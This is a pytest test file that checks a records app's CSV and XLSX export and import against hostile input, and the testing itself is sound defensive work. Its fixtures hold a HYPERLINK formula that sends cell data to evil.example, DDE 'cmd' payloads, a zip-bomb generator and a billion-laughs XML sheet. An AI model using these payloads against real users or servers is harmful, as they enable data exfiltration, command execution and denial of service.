"""Files in and out, against hostile input: exports never carry a formula, uploads are read with
limits that stop before a worker's memory is spent, imports are for the entity's editors, the size
limit is said before and after an upload, and uploaded files do not pile up."""
import csv
import datetime
import io
import json
import os
import random
import re
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from core.lowcode import records
from core.lowcode.entities import get_entity
from core.lowcode.models import ImportJob, Process, Stage
from core.lowcode.processes import ensure_defaults
from core.models import User

from .conftest import make_entity

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def upload(client, entity, data: bytes, filename="people.csv"):
    return client.post(f"/records/{entity}/import", data={"file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


# -- 1. formula injection in exports ---------------------------------------------------------------


@pytest.fixture
def hostile_deal(app, people):
    """A deal whose owner's name, customer's name and stage's name all start like formulas."""
    with app.test_request_context():
        User.update(name=HOSTILE).where(User.id == people.rep.id).execute()
        rep = User.get_by_id(people.rep.id)
        ensure_defaults()
        stage = Stage.select().join(Process).where(Process.key == "pipeline.sales").order_by(Stage.position).first()
        Stage.update(label="=cmd|' /C calc'!A0").where(Stage.id == stage.id).execute()
        customer, _changes = records.save(get_entity("pipeline.customer"), rep, {"name": "@SUM(1+1)*cmd|' /C calc'!A0"})
        records.save(get_entity("pipeline.deal"), rep, {"name": "＝1+1", "customer": customer.id, "amount": 1200})
    return people.rep


def test_every_exported_cell_is_neutralised_whatever_its_type(app, login, hostile_deal):
    rep = login(hostile_deal)
    table = list(csv.reader(io.StringIO(rep.get("/records/pipeline.deal/export.csv").data.decode("utf-8-sig"))))
    header, row = table[0], table[1]
    cells = dict(zip(header, row))
    assert cells["Deal"] == "'＝1+1"
    assert cells["Customer"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["Owner"] == "'" + HOSTILE
    assert cells["Stage"] == "'=cmd|' /C calc'!A0"
    assert cells["Amount"] in ("1200", "1200.00")  # numbers stay numbers
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), cell

    workbook = load_workbook(io.BytesIO(rep.get("/records/pipeline.deal/export.xlsx").data))
    sheet = workbook.active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    values = {header.value: cell for header, cell in zip(sheet[1], sheet[2])}
    assert values["Owner"].value == "'" + HOSTILE and values["Owner"].data_type == "s"
    assert values["Stage"].value == "'=cmd|' /C calc'!A0"
    assert values["Customer"].value.startswith("'@")
    assert values["Amount"].data_type == "n" and values["Amount"].value == 1200


def test_a_negative_number_is_exported_as_a_number(app, login, people, competitor, create):
    create(competitor, people.rep, name="Minus", revenue=0, staff=-3)
    rep = login(people.rep)
    table = list(csv.reader(io.StringIO(rep.get(f"/records/{competitor}/export.csv").data.decode("utf-8-sig"))))
    assert dict(zip(table[0], table[1]))["Staff"] == "-3"
    sheet = load_workbook(io.BytesIO(rep.get(f"/records/{competitor}/export.xlsx").data)).active
    staff = {header.value: cell for header, cell in zip(sheet[1], sheet[2])}["Staff"]
    assert staff.value == -3 and staff.data_type == "n"


# -- 4. the sheet's title ------------------------------------------------------------------------


@pytest.mark.parametrize("label", ["Q1/Q2: [won] deals?", "A form with a name longer than thirty-one characters", "'quoted'"])
def test_an_xlsx_export_of_a_form_whose_name_excel_refuses_as_a_sheet_title(app, login, people, create, label):
    entity = make_entity(app, people.admin, label=label, fields=[{"type": "text", "label": "Code"}])
    create(entity, people.rep, name="Acme")
    response = login(people.rep).get(f"/records/{entity}/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet["A2"].value == "Acme"
    assert len(sheet.title) <= 31 and not re.search(r"[\\/?*\[\]:]", sheet.title)
    assert not sheet.title.startswith("'") and not sheet.title.endswith("'")


# -- 2. xlsx uploads read with limits ------------------------------------------------------------


def small_workbook() -> bytes:
    workbook = Workbook()
    workbook.active.append(["Name", "Code"])
    workbook.active.append(["Acme", "AC001"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def with_sheet(sheet_xml, raw: bytes | None = None) -> bytes:
    """A real .xlsx whose first sheet is replaced by `sheet_xml` (bytes, or an iterable of byte
    chunks written as they come, so a big sheet is never held in memory)."""
    source = zipfile.ZipFile(io.BytesIO(raw or small_workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            if member.filename == "xl/worksheets/sheet1.xml":
                part_info = zipfile.ZipInfo(member.filename)
                part_info.compress_type = zipfile.ZIP_DEFLATED
                with target.open(part_info, "w", force_zip64=True) as part:
                    for chunk in ([sheet_xml] if isinstance(sheet_xml, bytes) else sheet_xml):
                        part.write(chunk)
            else:
                target.writestr(member, source.read(member.filename))
    return out.getvalue()


SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def repeated_rows_bomb(megabytes: int = 40) -> bytes:
    """Many MB of one repeated row, each cell a number: compressed to a few dozen KB."""
    row = b"<row>" + b"<c><v>1</v></c>" * 200 + b"</row>"
    chunk = row * (1024 * 1024 // len(row))

    def parts():
        yield SHEET_HEAD + b'<dimension ref="A1:GR1"/><sheetData>'
        for _ in range(megabytes):
            yield chunk
        yield b"</sheetData></worksheet>"
    return with_sheet(parts())


def whole_sheet_declared(value_far_away: bool) -> bytes:
    """A few KB: the sheet says it is A1:XFD1048576 and has a cell in XFD1048576."""
    far = b'<c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c>' if value_far_away else b'<c r="XFD1048576" s="0"/>'
    return with_sheet(SHEET_HEAD + b'<dimension ref="A1:XFD1048576"/><sheetData>'
                      b'<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>'
                      b'<row r="2"><c r="A2" t="inlineStr"><is><t>Acme</t></is></c></row>'
                      b'<row r="1048576">' + far + b"</row></sheetData></worksheet>")


def one_wide_row(cells: int) -> bytes:
    return with_sheet(SHEET_HEAD + b"<sheetData><row>" + b"<c/>" * cells + b"</row></sheetData></worksheet>")


READ_IN_A_SUBPROCESS = textwrap.dedent("""
    import json, resource, sys
    from core import create_app
    from core.lowcode import transfer
    raw = open(sys.argv[1], "rb").read()
    app = create_app({"DATABASE_URL": "sqlite:///:memory:", "SECRET_KEY": "x", "SCHEMA_CHECK": False,
                      "LOAD_ENTRYPOINTS": False, "INSTANCE_PATH": sys.argv[2]})
    with app.test_request_context():
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        # a runaway read fails here instead of taking the machine's memory
        soft, hard = resource.getrlimit(resource.RLIMIT_AS)
        vm = int([line.split()[1] for line in open("/proc/self/status") if line.startswith("VmSize")][0]) * 1024
        resource.setrlimit(resource.RLIMIT_AS, (vm + 1024 * 1024 * 1024, hard))
        try:
            table = transfer.read_upload("big.xlsx", raw)
            outcome = {"rows": len(table.rows), "header": table.header}
        except transfer.FileProblem as problem:
            outcome = {"problem": str(problem)}
        except MemoryError:
            outcome = {"problem": "MemoryError"}
        outcome["grown_mb"] = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    print(json.dumps(outcome))
""")


def read_apart(tmp_path, raw: bytes) -> dict:
    """read_upload in a fresh process with a memory ceiling; what it said and how much it grew."""
    path = tmp_path / "upload.xlsx"
    path.write_bytes(raw)
    done = subprocess.run([sys.executable, "-c", READ_IN_A_SUBPROCESS, str(path), str(tmp_path / "instance")],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    raw = repeated_rows_bomb()
    assert len(raw) < 1024 * 1024
    outcome = read_apart(tmp_path, raw)
    assert "unpacks to more than 100 times its size" in outcome.get("problem", ""), outcome
    assert outcome["grown_mb"] < 50, outcome


def test_an_xlsx_unpacking_to_more_than_the_limit_is_refused(app, monkeypatch):
    from core.lowcode import spreadsheets
    from core.lowcode.transfer import FileProblem, read_upload

    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED", 1024 * 1024)
    numbers = random.Random(8)
    rows = b"".join(b"<row>" + b"".join(b"<c><v>%d</v></c>" % numbers.randrange(10**9) for _ in range(50)) + b"</row>"
                    for _ in range(1000))  # about 1.3 MB that packs like real data (a few times smaller)
    raw = with_sheet(SHEET_HEAD + b"<sheetData>" + rows + b"</sheetData></worksheet>")
    with app.test_request_context(), pytest.raises(FileProblem, match=r"too large once unpacked \(more than 1 MB\)"):
        read_upload("big.xlsx", raw)


@pytest.mark.parametrize("value_far_away", [True, False])
def test_a_sheet_declaring_every_cell_is_read_without_materialising_them(tmp_path, value_far_away):
    raw = whole_sheet_declared(value_far_away)
    assert len(raw) < 10 * 1024
    outcome = read_apart(tmp_path, raw)
    if value_far_away:
        assert "more than 200 columns" in outcome.get("problem", ""), outcome
    else:  # trailing empty cells are no data: the file reads as its two rows
        assert outcome.get("header") == ["Name"] and outcome.get("rows") == 1, outcome
    assert outcome["grown_mb"] < 50, outcome


def test_a_row_wider_than_excel_allows_is_refused(app):
    from core.lowcode.transfer import FileProblem, read_upload

    with app.test_request_context(), pytest.raises(FileProblem, match="more cells than"):
        read_upload("wide.xlsx", one_wide_row(20_000))


def test_the_cells_of_a_sheet_are_counted_while_reading(app, monkeypatch):
    from core.lowcode import spreadsheets
    from core.lowcode.transfer import FileProblem, read_upload

    monkeypatch.setattr(spreadsheets, "MAX_CELLS", 1000)
    rows = b"".join(b"<row>" + b'<c t="inlineStr"><is><t>x</t></is></c>' * 10 + b"</row>" for _ in range(150))
    with app.test_request_context(), pytest.raises(FileProblem, match="more than 1,?000 cells"):
        read_upload("many.xlsx", with_sheet(SHEET_HEAD + b"<sheetData>" + rows + b"</sheetData></worksheet>"))


def test_a_sheet_with_a_document_type_is_refused(app):
    from core.lowcode.transfer import FileProblem, read_upload

    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
              b'<row><c t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>')
    with app.test_request_context(), pytest.raises(FileProblem):
        read_upload("laughs.xlsx", with_sheet(laughs))


@pytest.mark.parametrize("make, message", [
    (lambda: repeated_rows_bomb(8), "times its size"),
    (lambda: whole_sheet_declared(True), "more than 200 columns"),
])
def test_a_hostile_xlsx_upload_gets_a_4xx_with_a_message(app, login, people, competitor, make, message):
    response = upload(login(people.rep), competitor, make(), "hostile.xlsx")
    assert response.status_code == 400 and message in response.text
    with app.app_context():
        assert ImportJob.select().count() == 0


def test_a_normal_xlsx_still_imports(app, login, people, competitor):
    response = upload(login(people.rep), competitor, small_workbook(), "ok.xlsx")
    assert response.status_code == 302


# -- 3. imports are for the entity's editors ------------------------------------------------------


def test_a_rep_cannot_reach_any_import_page_of_an_entity_they_may_not_edit(app, login, people):
    manager = login(people.manager)
    made = upload(manager, "pipeline.product", b"Name,List price\nCRM Pro,100\n", "products.csv")
    assert made.status_code == 302
    with app.app_context():  # a job of the rep's own, as if uploaded before the entity got its editors
        job = ImportJob.get()
        uid = "0123456789abcdef"
        ImportJob.create(uid=uid, entity="pipeline.product", user=people.rep.id, filename="p.csv", total=1,
                         mapping={"Name": "name"})
        folder = Path(app.config["INSTANCE_PATH"]) / "imports"
        (folder / f"{uid}.upload").write_bytes((folder / f"{job.uid}.upload").read_bytes())
    rep = login(people.rep)
    base = "/records/pipeline.product/import"
    for url in (base, f"{base}/{uid}", f"{base}/{uid}/errors.csv", f"{base}/{uid}/progress"):
        assert rep.get(url).status_code == 403, url
    for url in (f"{base}/{uid}", f"{base}/{uid}/run"):
        assert rep.post(url, data={"map-0": "name"}).status_code == 403, url
    assert upload(rep, "pipeline.product", b"Name\nX\n").status_code == 403
    with app.app_context():
        assert ImportJob.get(ImportJob.uid == uid).status == "uploaded"
    assert manager.get(f"{base}/{job.uid}").status_code == 200


# -- 5. the size limit, before and after -----------------------------------------------------------


def test_the_upload_form_says_the_limit(make_app, people):
    app = make_app(MAX_CONTENT_LENGTH=2 * 1024 * 1024)
    page = app.test_client().login(people.rep).get("/records/pipeline.customer/import").text
    assert 'data-max-bytes="2097152"' in page and "2 MB" in page


@pytest.mark.parametrize("htmx", [False, True])
def test_an_oversized_upload_gets_a_413_that_says_the_limit(make_app, people, htmx):
    app = make_app(MAX_CONTENT_LENGTH=2 * 1024 * 1024)
    client = app.test_client().login(people.rep)
    if htmx:
        client.environ_base["HTTP_HX_REQUEST"] = "true"
    response = upload(client, "pipeline.customer", b"Name\n" + b"x" * (3 * 1024 * 1024))
    assert response.status_code == 413
    assert "The upload is too large." in response.text and "2 MB" in response.text
    assert ("<html" in response.text) is not htmx


def test_an_oversized_upload_by_someone_signed_out_is_a_413_not_the_form(make_app):
    app = make_app(MAX_CONTENT_LENGTH=1024)
    response = upload(app.test_client(), "pipeline.customer", b"Name\n" + b"x" * 4096)
    assert response.status_code == 413 and "The upload is too large." in response.text
    assert 'name="file"' not in response.text


# -- 6. uploaded files do not pile up --------------------------------------------------------------


def test_an_upload_left_for_a_day_is_deleted_and_its_job_expired(app, login, people, competitor):
    rep = login(people.rep)
    old = re.search(r"/import/(\w+)$", upload(rep, competitor, b"Name\nA\n").headers["Location"]).group(1)
    folder = Path(app.config["INSTANCE_PATH"]) / "imports"
    (folder / f"{old}.progress.json").write_text("{}")
    long_ago = datetime.datetime.now(datetime.UTC).replace(tzinfo=None) - datetime.timedelta(days=2)
    with app.app_context():
        ImportJob.update(created_at=long_ago).where(ImportJob.uid == old).execute()
        ImportJob.create(uid="00000000000000aa", entity=competitor, user=people.rep.id, filename="x.csv",
                         status="running", created_at=long_ago)
    (folder / "00000000000000aa.upload").write_bytes(b"Name\nC\n")
    stale = long_ago.timestamp()
    for path in folder.iterdir():
        os.utime(path, (stale, stale))
    (folder / "orphan.upload").write_bytes(b"x")
    os.utime(folder / "orphan.upload", (stale, stale))
    fresh = re.search(r"/import/(\w+)$", upload(rep, competitor, b"Name\nB\n").headers["Location"]).group(1)
    assert sorted(path.name for path in folder.iterdir()) == sorted(["00000000000000aa.upload", f"{fresh}.upload"])
    with app.app_context():
        assert ImportJob.get(ImportJob.uid == old).status == "expired"
        assert ImportJob.get(ImportJob.uid == "00000000000000aa").status == "running"  # at work: its file stays
        assert ImportJob.get(ImportJob.uid == fresh).status == "uploaded"
    gone = rep.get(f"/records/{competitor}/import/{old}", follow_redirects=True)
    assert "This upload has expired" in gone.text


def test_discard_upload_removes_the_file_and_its_progress(app, login, people, competitor):
    from core.lowcode.transfer import discard_upload

    rep = login(people.rep)
    uid = re.search(r"/import/(\w+)$", upload(rep, competitor, b"Name\nA\n").headers["Location"]).group(1)
    folder = Path(app.config["INSTANCE_PATH"]) / "imports"
    (folder / f"{uid}.progress.json").write_text("{}")
    with app.test_request_context():
        discard_upload(ImportJob.get(ImportJob.uid == uid))
        discard_upload(ImportJob.get(ImportJob.uid == uid))  # twice is harmless
    assert list(folder.iterdir()) == []
